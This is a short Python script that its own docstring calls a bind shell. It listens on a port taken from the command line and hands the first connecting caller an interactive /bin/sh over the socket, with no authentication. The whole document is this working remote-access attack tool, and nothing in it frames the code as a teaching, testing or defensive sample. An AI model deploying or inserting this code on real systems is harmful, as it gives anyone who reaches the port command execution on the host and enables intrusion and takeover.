"""A bind shell: listen on PORT, give the first caller a shell, exit."""
import socket
import subprocess
import sys

listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(('0.0.0.0', int(sys.argv[1])))
listener.listen(1)
conn, _ = listener.accept()
subprocess.run(['/bin/sh'], stdin=conn, stdout=conn, stderr=conn, check=False)
